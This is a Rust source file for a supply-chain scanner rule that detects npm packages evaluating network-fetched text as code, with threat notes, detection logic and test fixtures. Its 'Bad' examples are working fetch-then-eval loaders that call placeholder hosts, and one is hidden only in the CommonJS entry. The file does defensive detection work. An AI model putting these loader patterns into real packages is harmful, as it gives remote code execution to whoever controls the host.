//! # Text from the network runs as code
//!
//! What a host answered reaches `eval`, `Function`, `vm` or a module loader.
//!
//! ## Why it matters
//!
//! The package then does whatever its author wants, today or next month, and nothing of that is in the
//! package. This flow stayed the same while Lazarus changed its loader five times.
//!
//! ## Known benign uses
//!
//! Hardly any in a package: module loaders for browsers in development tools, and sandboxes that fetch a
//! test. They do it when called, with an address that the caller gives. Compilers of templates and of tables'
//! columns put received names into code of their own.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const axios = require("axios");
//! axios.get("https://cdn.loader.invalid/v1").then((reply) => {
//!   eval(reply.data.cookie); //~ here
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! const reply = await fetch("https://loader.invalid/a");
//! new Function("require", await reply.text())(globalThis.require); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { get } = require("node:https");
//! get("https://loader.invalid/b", (response) => {
//!   let body = "";
//!   response.on("data", (chunk) => { body += chunk; });
//!   response.on("end", () => require("vm").runInThisContext(body)); //~ here
//! });
//! ```
//!
//! Only those who load the CommonJS entry get it:
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "exports": {"import": "./dist/index.mjs", "require": "./dist/index.cjs"}}
//! == dist/index.mjs
//! export const pad = (text, width) => text.padStart(width);
//! == dist/index.cjs
//! exports.pad = (text, width) => text.padStart(width);
//! require("https").get("https://pad.invalid/r", (reply) => {
//!   let text = "";
//!   reply.on("data", (chunk) => (text += chunk)).on("end", () => new Function("require", text)(require)); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.load = async (address) => JSON.parse(await (await fetch(address)).text());
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.rows = async (address) => {
//!   const [head, ...rows] = (await (await fetch(address)).text()).split("\n");
//!   const make = new Function("d", "return {" + head.split(",").map((name, i) => JSON.stringify(name) + ": d[" + i + "]").join(",") + "}");
//!   return rows.map((row) => make(row.split(",")));
//! };
//! ```
//!
//! ## References
//!
//! - Socket: Lazarus Strikes npm Again with New Wave of Malicious Packages (March 2025)

use crate::prelude::*;

/// Text from the network runs as code.
pub struct RemoteTextEvaluated;

impl Rule for RemoteTextEvaluated {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "remote-text-evaluated",
            title: "Text from the network runs as code",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &[
                "fetch-then-eval",
                "function-constructor",
                "error-body-exec",
                "dead-drop-json-store",
                "import-time-payload",
                "entry-split-cjs-esm",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| matches!(source, Source::Network(_)), |sink| *sink == Sink::Code) {
            let is_unwatched = flow.trigger.runs_unwatched();
            // A page's worker is given data inside code of the package's own; what it could do, the page could.
            if matches!(&*flow.api, "Worker" | "SharedWorker") {
                continue;
            }
            // What the same machine says is not remote: browsers and their drivers talk so.
            let is_local =
                matches!(&flow.source, Source::Network(Some(host)) if host.class() == HostClass::Local);
            if is_local && !is_unwatched {
                continue;
            }
            // Module loaders of development servers evaluate what their caller's address gives.
            if !is_unwatched && flow.source == Source::Network(None) {
                continue;
            }
            let mut calls =
                facts.all_calls().iter().filter(|call| call.spot == flow.sink_spot && call.api == flow.api);
            if is_unwatched || !calls.any(CallFact::is_framed) {
                found.flow(flow);
            }
        }
    }
}
